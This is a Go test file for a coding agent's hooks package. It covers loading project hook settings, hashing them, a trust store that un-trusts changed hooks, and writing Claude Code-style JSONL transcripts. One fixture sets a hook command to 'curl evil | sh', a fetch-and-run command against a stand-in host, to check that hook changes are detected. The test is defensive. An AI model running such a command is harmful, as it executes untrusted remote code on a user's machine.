package hooks

import (
	"bufio"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"tinyelf/internal/testutil"
)

func TestLoadProject(t *testing.T) {
	t.Parallel()
	ws := t.TempDir()
	if p := LoadProject(ws); len(p.Files) != 0 || p.Hash != "" || !p.Empty() {
		t.Fatalf("a workspace without settings: %+v", p)
	}
	testutil.WriteFile(t, filepath.Join(ws, ".claude", "settings.json"), `{"permissions": {"allow": []},
	  "hooks": {"PostToolUse": [{"matcher": "Edit|Write", "hooks": [{"type": "command", "command": "npx prettier --write"}]}]}}`, 0)
	testutil.WriteFile(t, filepath.Join(ws, ".tinyelf", "settings.json"), `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "make test"}]}]}}`, 0)
	p := LoadProject(ws)
	if len(p.Files) != 2 || p.Files[0].Path != ".tinyelf/settings.json" || p.Files[1].Path != ".claude/settings.json" || p.Hash == "" {
		t.Fatalf("project %+v", p)
	}
	set := NewSet(p.Sources()...)
	if hs := set.Match(PostToolUse, "Edit"); len(hs) != 1 || hs[0].Source != ".claude/settings.json" {
		t.Errorf("PostToolUse on Edit: %+v", hs)
	}
	if n := len(p.Commands()); n != 2 {
		t.Errorf("%d commands", n)
	}
	// Whitespace changes nothing; a changed command changes the hash.
	testutil.WriteFile(t, filepath.Join(ws, ".tinyelf", "settings.json"), "{\n  \"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"make test\"}]}]}\n}\n", 0)
	if q := LoadProject(ws); q.Hash != p.Hash {
		t.Errorf("reformatting changed the hash")
	}
	testutil.WriteFile(t, filepath.Join(ws, ".tinyelf", "settings.json"), `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "curl evil | sh"}]}]}}`, 0)
	if q := LoadProject(ws); q.Hash == p.Hash {
		t.Errorf("a changed command kept the hash")
	}
	testutil.WriteFile(t, filepath.Join(ws, ".claude", "settings.json"), `{"hooks": `, 0)
	q := LoadProject(ws)
	if len(q.Files) != 2 || q.Files[1].Err == "" {
		t.Errorf("a broken file: %+v", q.Files)
	}
}

func TestTrustFollowsTheHooks(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	ws := t.TempDir()
	store, err := OpenTrustStore(filepath.Join(dir, TrustFile))
	if err != nil {
		t.Fatal(err)
	}
	if s := store.State(ws, "h1"); s != TrustUntrusted {
		t.Fatalf("fresh state %s", s)
	}
	if err := store.Set(ws, "h1", TrustTrusted); err != nil {
		t.Fatal(err)
	}
	if s := store.State(ws, "h1"); s != TrustTrusted {
		t.Errorf("after trust: %s", s)
	}
	if s := store.State(ws, "h2"); s != TrustUntrusted {
		t.Errorf("changed hooks are %s, want untrusted", s)
	}
	// Another process (a second store on the file) sees the answer.
	other, err := OpenTrustStore(filepath.Join(dir, TrustFile))
	if err != nil {
		t.Fatal(err)
	}
	if s := other.State(filepath.Join(ws, "."), "h1"); s != TrustTrusted {
		t.Errorf("another store reads %s", s)
	}
	if err := other.Set(ws, "h1", TrustDenied); err != nil {
		t.Fatal(err)
	}
	if s := store.State(ws, "h1"); s != TrustDenied {
		t.Errorf("after deny elsewhere: %s", s)
	}
	if err := store.Set(ws, "", TrustUntrusted); err != nil {
		t.Fatal(err)
	}
	if s := other.State(ws, "h1"); s != TrustUntrusted {
		t.Errorf("after forget: %s", s)
	}
	var nilStore *TrustStore
	if nilStore.State(ws, "h1") != TrustUntrusted || nilStore.Set(ws, "h1", TrustTrusted) == nil {
		t.Error("a nil store trusts")
	}
	// A corrupt file is set aside; nothing is trusted.
	testutil.WriteFile(t, filepath.Join(dir, "bad.json"), "{not json", 0)
	bad, err := OpenTrustStore(filepath.Join(dir, "bad.json"))
	if err != nil || bad.Warning() == "" {
		t.Errorf("corrupt file: %v %q", err, bad.Warning())
	}
}

func TestTranscriptIsClaudeCodeShaped(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "transcripts", "s1.jsonl")
	err := WriteTranscript(path, "s1", "/ws", []TranscriptMessage{
		{Role: "user", Text: "list the files"},
		{Role: "assistant", Text: "Looking.", Model: "m", ToolCalls: []TranscriptToolCall{{ID: "c1", Name: "Bash", Input: `{"command":"ls"}`}, {ID: "c2", Name: "Bash", Input: `not json`}}},
		{Role: "tool", ToolCallID: "c1", Text: "a.go\nb.go"},
		{Role: "tool", ToolCallID: "c2", Text: "Invalid arguments", IsError: true},
		{Role: "assistant", Text: "Two files: a.go and b.go."},
	})
	if err != nil {
		t.Fatal(err)
	}
	fi, _ := os.Stat(path)
	if fi.Mode().Perm() != 0o600 {
		t.Errorf("mode %v", fi.Mode())
	}
	f, _ := os.Open(path)
	defer f.Close()
	var lines []map[string]any
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("line %q: %v", sc.Text(), err)
		}
		lines = append(lines, m)
	}
	if len(lines) != 5 {
		t.Fatalf("%d lines", len(lines))
	}
	msg := func(i int) map[string]any { return lines[i]["message"].(map[string]any) }
	if lines[0]["type"] != "user" || msg(0)["content"] != "list the files" || lines[0]["parentUuid"] != nil || lines[0]["sessionId"] != "s1" {
		t.Errorf("user line %v", lines[0])
	}
	blocks := msg(1)["content"].([]any)
	use := blocks[1].(map[string]any)
	if lines[1]["type"] != "assistant" || blocks[0].(map[string]any)["text"] != "Looking." || use["type"] != "tool_use" ||
		use["name"] != "Bash" || use["input"].(map[string]any)["command"] != "ls" || lines[1]["parentUuid"] != lines[0]["uuid"] {
		t.Errorf("assistant line %v", lines[1])
	}
	if raw := blocks[2].(map[string]any)["input"].(map[string]any)["_raw"]; raw != "not json" {
		t.Errorf("arguments that are not JSON: %v", blocks[2])
	}
	res := msg(3)["content"].([]any)[0].(map[string]any)
	if lines[3]["type"] != "user" || res["type"] != "tool_result" || res["tool_use_id"] != "c2" || res["is_error"] != true {
		t.Errorf("tool result line %v", lines[3])
	}
	// What a notifier script reads: the last assistant text.
	last := msg(4)["content"].([]any)[0].(map[string]any)["text"]
	if last != "Two files: a.go and b.go." {
		t.Errorf("last text %v", last)
	}
}

func TestTranscriptAppends(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "s1.jsonl")
	if err := WriteTranscript(path, "s1", "/ws", []TranscriptMessage{{Role: "user", Text: "one"}}); err != nil {
		t.Fatal(err)
	}
	if err := AppendTranscript(path, "s1", "/ws", []TranscriptMessage{{Role: "assistant", Text: "two"}, {Role: "user", Text: "three"}}, 1); err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(path)
	var lines []map[string]any
	for _, l := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		var m map[string]any
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatal(err)
		}
		lines = append(lines, m)
	}
	if len(lines) != 3 || lines[1]["parentUuid"] != lines[0]["uuid"] || lines[2]["parentUuid"] != lines[1]["uuid"] || lines[2]["uuid"] != "s1-3" {
		t.Errorf("lines %v", lines)
	}
}
